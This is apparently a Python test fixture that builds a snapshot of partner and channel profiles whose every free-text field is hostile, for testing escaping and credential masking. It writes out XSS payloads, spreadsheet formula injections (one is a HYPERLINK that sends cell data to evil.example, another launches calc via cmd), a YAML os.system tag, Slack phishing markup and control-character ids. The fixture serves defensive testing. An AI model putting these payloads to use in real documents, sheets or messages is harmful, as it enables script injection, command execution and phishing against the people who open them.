"""A snapshot whose every free-text field is hostile (issues 22 and 35): markup, Markdown,
Mermaid and YAML specials, chat markup (Slack's `<!channel>`, `<url|label>`), control
characters, formula prefixes, a 2,000-character name, names that collide by case and
punctuation, credentials in absolute and relative URLs and held as name/value pairs
(`[{"name": "Authorization", "value": "Bearer ..."}]`), and ids with control characters.

`hostile_estate()` builds it, `hostile_changed()` the same a day later (every profile
deactivated, every credential pair given a new value, a field named in chat markup added:
changes that name each hostile id and field, and must show each pair masked); `SECRETS`
are the credentials they carry, which no output may show; `NAMES` are the hostile names,
for tests that look for them whole; `IDS` the hostile profile ids; `CHAT` the chat markup
no webhook may pass on as markup; `CHAT_FIELD` a field name in chat markup.
"""

from __future__ import annotations

import copy
from typing import Any

from iptoolkit.core.estate import Estate

from .factories import agent, channel, partner, profile, unit

__all__ = [
    "hostile_estate",
    "hostile_changed",
    "SECRETS",
    "CHAT_FIELD",
    "NAMES",
    "SCRIPT",
    "LONG_NAME",
    "IDS",
    "CHAT",
]

SECRETS = (
    "hostile-pw-5e1",
    "hostile-token-9a2",
    "hostile-apikey-c77",
    "hostile-sig-0b3",
    "hostile-pair-bearer-4d1",  # in {"name": "Authorization", "value": "Bearer ..."}
    "hostile-pair-apikey-8e6",  # in {"key": "X-Api-Key", "value": ...}
    "hostile-pair-rotated-2f7",  # the new values of those pairs (`hostile_changed`)
)
SCRIPT = "<img src=x onerror=alert(document.domain) >"
CHAT = (
    "<!channel> <@U123> <https://evil.example|Re-login> [phish](https://evil.example)"
    "\n# Urgent\r&amp; *now*"
)
"""Slack mentions and links, a Markdown link, a line break starting a heading."""
IDS = (
    "ctl-\u001b\u0000-id",
    "cr-\r-overwrite\n-id",
    "bidi-\u202e-id\u0085\uffff",
    "<!channel> <@U123> <https://evil.example|Re-login>\n# [phish](https://evil.example)",
)
"""Profile ids with terminal escapes, NUL, line breaks, a bidi override, C1, U+FFFF and
chat markup."""
CHAT_FIELD = "<!here> [phish](https://evil.example)"
"""A field name `hostile_changed` adds to every profile: a change's path names it."""
LONG_NAME = "Long " + "partner name " * 153 + "end"  # 2,000+ characters
NAMES = [
    SCRIPT,
    "Partner X",
    "PARTNER x",
    "Partner X-2",
    LONG_NAME,
    "NUL\x00 DEL\x7f C1\x85\x9f nonchar\uffff tab\tline\nbreak",
    '%%{init: {"theme": "dark", "securityLevel": "loose"}}%%',
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "*bold* _em_ [link](javascript:alert(1)) `code` | pipe # hash \\ back",
    "key: value # comment &anchor *alias !!python/object:os.system ---",
    "</script><script>alert(1)</script>",
    "\"quotes' and <b>tags</b> & ampersands",
    CHAT,
    "end",
]


def _uri(n: int) -> str:
    return f"/v3/shipments?apikey={SECRETS[2]}&n={n}"


def _pairs() -> list[dict[str, str]]:
    """HTTP headers as name/value pairs, two of them credentials."""
    return [
        {"name": "Authorization", "value": f"Bearer {SECRETS[4]}"},
        {"key": "X-Api-Key", "value": SECRETS[5]},
        {"name": "Accept", "value": "application/json"},
    ]


def hostile_estate() -> Estate:
    """Two profiles per hostile name: one whose partner, channel, profile and group carry
    it, one that delivers to that partner over HTTP with credentials in its URL."""
    raws: list[dict[str, Any]] = []
    for n, name in enumerate(NAMES):
        owner = partner(100 + n, name)
        url = f"https://user:{SECRETS[0]}@edi.example/in?token={SECRETS[1]}&sig={SECRETS[3]}"
        ch = channel(4000 + n, "HTTP", partner=owner, name=name, url=url, description=name)
        sftp = channel(5000 + n, "SFTP", partner=owner, name=f"{name} sftp", host=name)
        raws.append(
            profile(
                f"P-{n:03d}",
                name=name,
                group=f"{name}/sub {name}",
                description=name,
                agent=agent(
                    "Http",
                    channels=[ch],
                    httpSettings={
                        "uri": _uri(n),
                        "host": "h.example",
                        "password": SECRETS[0],
                        "headers": _pairs(),
                    },
                ),
                units=[unit("Ftp", channel=sftp, name=name)],
            )
        )
        raws.append(
            profile(
                f"P-{n:03d}-b",
                name=f"{name} (delivery)",
                group=name,
                agent=agent("SFTP", channels=[sftp]),
                units=[unit("Http", channel=ch, name=name, url=_uri(n))],
            )
        )
    owner = partner(100, NAMES[0])
    for n, hostile_id in enumerate(IDS):
        sftp = channel(6000 + n, "SFTP", partner=owner, name=f"{hostile_id} sftp")
        raws.append(
            profile(
                hostile_id,
                name=f"{hostile_id} {CHAT}",
                group="hostile ids",
                agent=agent("SFTP", channels=[sftp]),
                units=[unit("Http", name=hostile_id, httpSettings={"headers": _pairs()})],
            )
        )
    return Estate.from_raw(raws)


def hostile_changed() -> Estate:
    """`hostile_estate()` a day later: every profile inactive (a breaking change each, its
    reason naming the profile), each credential pair's value rotated and a cookie pair added
    (changes inside the pairs, which only the pair's name says are secret), and a field
    whose name is chat markup added (`CHAT_FIELD`, named by each change's path)."""
    raws = copy.deepcopy(list(hostile_estate().raw_profiles))
    for raw in raws:
        raw["active"] = False
        raw[CHAT_FIELD] = "x"
        for settings in _http_settings(raw):
            headers = settings["headers"]
            headers[0]["value"] = f"Bearer {SECRETS[6]}"
            headers[1]["value"] = SECRETS[6]
            headers.append({"name": "Cookie", "value": f"sid={SECRETS[6]}"})
    return Estate.from_raw(raws)


def _http_settings(raw: dict[str, Any]) -> list[dict[str, Any]]:
    """The `httpSettings` objects of a profile that carry headers (agent and units)."""
    holders = [raw.get("inputAgentSettings") or {}]
    holders += (raw.get("responseSettings") or {}).get("units") or []
    found = [holder.get("httpSettings") for holder in holders]
    return [one for one in found if isinstance(one, dict) and "headers" in one]
